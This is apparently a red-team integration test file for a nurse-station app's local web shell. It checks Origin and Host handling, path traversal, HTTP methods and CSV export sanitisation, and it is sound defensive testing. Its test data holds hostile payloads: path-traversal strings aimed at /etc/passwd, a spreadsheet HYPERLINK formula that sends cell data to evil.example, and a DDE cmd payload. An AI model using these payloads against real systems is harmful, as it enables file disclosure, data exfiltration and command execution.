// Red team of #18, point 5: the web shell in front of a real station, for what the existing suites do
// not already try. Already covered, and not repeated here:
// - tests/integration/security/web-shell-exposure.spec.ts: the loopback bind, the token, TLS, the
//   Origin check (https://evil.example, null, another port, localhost alias, file://, none), a flood
//   over many connections, no stack trace/SQL/password to the browser;
// - electron/main/web-shell/web-shell.spec.ts: 18 Host headers that only look like loopback (HTTP and
//   WebSocket, fake host), one encoded traversal (`..%2F..%2F`);
// - tests/integration/fuzz/web-shell.fuzz.spec.ts: oversized frames, floods, random bytes and JSON.
// Added here: the Origin and Host tricks of #18's brief against the real station, a connection
// without an Origin being nobody, 30 traversal spellings sent as raw request lines (no client-side
// normalisation), methods other than GET/HEAD, and the CSV export of notes a nurse typed with every
// OWASP formula prefix.
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import type { WebShell } from '../../../electron/main/web-shell/web-shell';
import type { AckRecord, AlertPage } from '../../../shared/domain/types';
import type { Result } from '../../../shared/ipc/contract';
import { DEMO_NURSE } from '../../support/nurses';
import { report } from '../helpers/station-fixtures';
import { connectWs } from '../helpers/ws-client';
import {
  makeStaticDir,
  OUTSIDE_MARKER,
  startRedTeamShell,
  startRedTeamStation,
  type RedTeamStation,
} from './red-team-support';

let station: RedTeamStation;
let shell: WebShell;
let removeStatic: () => void;

beforeAll(async () => {
  station = await startRedTeamStation({ beds: 12, warmupMs: 3 * 3_600_000 });
  const dir = makeStaticDir();
  removeStatic = dir.remove;
  shell = await startRedTeamShell(station.host, dir.staticDir);
}, 60_000);

afterAll(async () => {
  await shell?.close();
  await station?.close();
  removeStatic?.();
});

/** One raw HTTP/1.1 exchange: exactly these bytes go out; the status and body come back. */
function raw(port: number, text: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const s = connect(port, '127.0.0.1');
    let got = '';
    s.setTimeout(5_000, () => s.destroy(new Error('timeout')));
    s.on('data', (d) => (got += d.toString('latin1')));
    s.on('end', () => {
      const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(got)?.[1] ?? 0);
      const at = got.indexOf('\r\n\r\n');
      resolve({ status, body: at >= 0 ? got.slice(at + 4) : '' });
    });
    s.on('error', reject);
    s.write(text);
  });
}

const get = (port: number, target: string, host = `127.0.0.1:${port}`) =>
  raw(port, `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);

/** A WebSocket upgrade with these headers: 'open', or the HTTP status it was refused with. */
function upgrade(port: number, headers: Record<string, string>): Promise<string> {
  return new Promise((resolve) => {
    const ws = new WebSocket(`ws://127.0.0.1:${port}/ws`, 'nurse-station', { headers });
    ws.once('open', () => {
      ws.close();
      resolve('open');
    });
    ws.once('unexpected-response', (_q, res) => resolve(`HTTP ${res.statusCode}`));
    ws.once('error', () => resolve('error'));
  });
}

describe('Red team #18: who may open the WebSocket', () => {
  it('refuses cross-origin pages, including origins that only start or end like the station', async () => {
    const p = shell.port;
    const cases: Record<string, string> = {};
    for (const origin of [
      'http://evil.example',
      'null',
      `http://127.0.0.1:${p}.evil.example`,
      `http://127.0.0.1:${p}@evil.example`,
      `http://evil.example/http://127.0.0.1:${p}`,
      `https://127.0.0.1:${p}`,
      `ws://127.0.0.1:${p}`,
      `http://127.0.0.1:${p}/`,
      `http://127.0.0.1`,
      `http://[::1]:${p}`,
      '',
    ])
      cases[origin || '(empty)'] = await upgrade(p, { Origin: origin });
    for (const [origin, outcome] of Object.entries(cases)) expect(outcome, origin).toBe('HTTP 403');
    expect(await upgrade(p, { Origin: `http://127.0.0.1:${p}` })).toBe('open');
    report('red team #18 websocket origins', { refused: Object.keys(cases).length });
  });

  it('a connection without an Origin (not a browser) opens, but is nobody: no acknowledge, no settings', async () => {
    const c = await connectWs(shell.port, { origin: null });
    try {
      const alerts = (await c.call('alerts:list', {
        range: '24h',
        status: 'pending',
        limit: 1,
      })) as Result<AlertPage>;
      const alertId = alerts.ok ? alerts.value.items[0]?.alertId : undefined;
      expect(alertId).toBeDefined();
      expect(await c.call('alerts:acknowledge', { alertId, action: 'resolve' })).toMatchObject({
        ok: false,
        error: { code: 'unauthorized' },
      });
      expect(await c.call('settings:update-retention', { ackRetentionDays: 1 })).toMatchObject({
        ok: false,
        error: { code: 'unauthorized' },
      });
    } finally {
      c.close();
    }
  });

  it('refuses a wrong Host (DNS rebinding) on HTTP and on the upgrade, with the matching Origin', async () => {
    const p = shell.port;
    const hosts = [
      '127.0.0.1.evil.example',
      'localhost:1@evil',
      `127.0.0.1:${p}.evil.example`,
      `localhost:${p}@evil`,
    ];
    const outcomes: Record<string, [number, string]> = {};
    for (const h of hosts) {
      const page = await get(p, '/', h);
      const ws = await upgrade(p, { Host: h, Origin: `http://${h}` });
      outcomes[h] = [page.status, ws];
      expect([400, 421], `HTTP Host: ${h}`).toContain(page.status);
      expect(page.body).not.toContain('Nurse Station');
      expect(['HTTP 400', 'HTTP 421', 'error'], `WS Host: ${h}`).toContain(ws);
    }
    // no Host at all (HTTP/1.0): refused too
    const noHost = await raw(p, 'GET / HTTP/1.0\r\n\r\n');
    expect([400, 421]).toContain(noHost.status);
    report('red team #18 host headers', { outcomes, noHost: noHost.status });
  });
});

describe('Red team #18: the static server serves nothing outside out/renderer', () => {
  const TARGETS = [
    '/../package.json',
    '/../../../../etc/passwd',
    '/%2e%2e/package.json',
    '/%2E%2E/package.json',
    '/.%2e/package.json',
    '/%2e./package.json',
    '/..%2fpackage.json',
    '/..%2Fpackage.json',
    '/%2e%2e%2fpackage.json',
    '/%2e%2e%2f%2e%2e%2fetc/passwd',
    '/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/%252e%252e/package.json',
    '/%252e%252e%252fpackage.json',
    '/..\\package.json',
    '/..\\..\\package.json',
    '/%5c..%5cpackage.json',
    '/..%5cpackage.json',
    '/%00',
    '/index.html%00',
    '/%00/../package.json',
    '/..%00/package.json',
    '//etc/passwd',
    '/%2f%2fetc/passwd',
    '/%2fetc%2fpasswd',
    '/assets/../../package.json',
    '/assets/..%2f..%2fpackage.json',
    '/....//package.json',
    '/%c0%ae%c0%ae/package.json',
    '/../renderer/../outside-secret.txt',
    '/..%2foutside-secret.txt',
    'package.json',
    '../package.json',
  ];

  it('answers every traversal spelling with the app, 400, 403 or 404 — never an outside file', async () => {
    const p = shell.port;
    const index = (await get(p, '/')).body;
    expect(index).toContain('Nurse Station');
    const statuses: Record<string, number> = {};
    const leaks: string[] = [];
    const targets = [
      ...TARGETS,
      `http://127.0.0.1:${p}/../package.json`,
      `http://127.0.0.1:${p}/%2e%2e/outside-secret.txt`,
    ];
    for (const target of targets) {
      const r = await get(p, target);
      statuses[target] = r.status;
      if (r.body.includes(OUTSIDE_MARKER) || /root:.*:0:0:/.test(r.body)) leaks.push(target);
      expect([200, 400, 403, 404], target).toContain(r.status);
      if (r.status === 200) expect(r.body, target).toBe(index); // an app route: the app, nothing else
    }
    expect(leaks).toEqual([]);
    const tally: Record<number, number> = {};
    for (const s of Object.values(statuses)) tally[s] = (tally[s] ?? 0) + 1;
    report('red team #18 path traversal', {
      tried: targets.length,
      statusCounts: tally,
      leaks: leaks.length,
    });
  });

  it('serves GET and HEAD only', async () => {
    const p = shell.port;
    for (const method of ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND']) {
      const r = await raw(
        p,
        `${method} / HTTP/1.1\r\nHost: 127.0.0.1:${p}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
      );
      expect(r.status, method).toBe(405);
    }
  });
});

/** RFC 4180 cells of a CSV text (quoted cells, doubled quotes, line breaks inside quotes). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Why a spreadsheet would run this cell (or a `;` piece of it) as a formula, or null. */
function formulaRisk(cell: string): string | null {
  if (/^[\t\r]/.test(cell)) return 'starts with a tab or CR';
  for (const piece of [cell, ...cell.split(';').slice(1)]) {
    const first = /^[\s"]*(.)/su.exec(piece)?.[1];
    if (first !== undefined && /^[=+\-@\u2212]$/.test(first.normalize('NFKC')))
      return `piece ${JSON.stringify(piece.slice(0, 20))}`;
  }
  return null;
}

describe('Red team #18: the CSV export of notes a nurse typed', () => {
  const NOTES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the chart")',
    '+1+1',
    '-1+1',
    '@SUM(1,1)',
    ' =1+1',
    '  @SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\r\n=cmd|" /C calc"!A0',
    '\uFF1D1+1', // full-width ＝
    '\uFF0B1', // full-width ＋
    '\uFE661+1', // small ＝
    '\u22121', // − MINUS SIGN
    '"=1+1',
    'checked; =1+1',
    'line one\n=1+1',
    'NUL\u0000=1 and bell\u0007',
  ];

  it('guards every OWASP formula prefix, and stores the notes without NUL or other controls', async () => {
    const c = await connectWs(shell.port);
    try {
      expect((await c.call('session:sign-in', { nurseId: DEMO_NURSE.nurseId, pin: DEMO_NURSE.pin })).ok).toBe(
        true,
      );
      const page = (await c.call('alerts:list', {
        range: '24h',
        status: 'pending',
        limit: 100,
      })) as Result<AlertPage>;
      const ids = page.ok ? page.value.items.map((a) => a.alertId) : [];
      expect(ids.length, 'pending alerts to acknowledge').toBeGreaterThanOrEqual(NOTES.length);
      const from = Date.now() - 1_000;
      for (const [i, note] of NOTES.entries()) {
        const r = await c.call('alerts:acknowledge', { alertId: ids[i], action: 'confirm', note });
        expect(r.ok, `${JSON.stringify(note)}: ${JSON.stringify(r)}`).toBe(true);
      }
      const stored = (await c.call('review:list', { from, limit: 100 })) as Result<AckRecord[]>;
      expect(stored.ok).toBe(true);
      const notes = stored.ok ? stored.value.map((r) => r.note ?? '') : [];
      expect(notes).toHaveLength(NOTES.length);
      for (const n of notes) {
        // eslint-disable-next-line no-control-regex
        expect(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(n), JSON.stringify(n)).toBe(false);
      }
      const csv = (await c.call('review:export-csv', { from, to: Date.now() + 60_000 })) as Result<{
        csv: string;
      }>;
      expect(csv.ok).toBe(true);
      const rows = csvRows(csv.ok ? csv.value.csv : '');
      const header = rows[0] ?? [];
      const noteAt = header.indexOf('note');
      expect(noteAt).toBeGreaterThanOrEqual(0);
      const risks: string[] = [];
      for (const row of rows.slice(1))
        for (const [i, cell] of row.entries()) {
          const risk = formulaRisk(cell);
          if (risk) risks.push(`${header[i]}: ${risk}`);
        }
      expect(risks).toEqual([]);
      // the notes are in the file (the check above saw them), each guarded where it had to be
      expect(rows.slice(1).filter((r) => r[noteAt]?.includes('1+1'))).not.toHaveLength(0);
      report('red team #18 csv notes', {
        notes: NOTES.length,
        rows: rows.length - 1,
        formulaRisks: risks.length,
      });
    } finally {
      c.close();
    }
  });
});
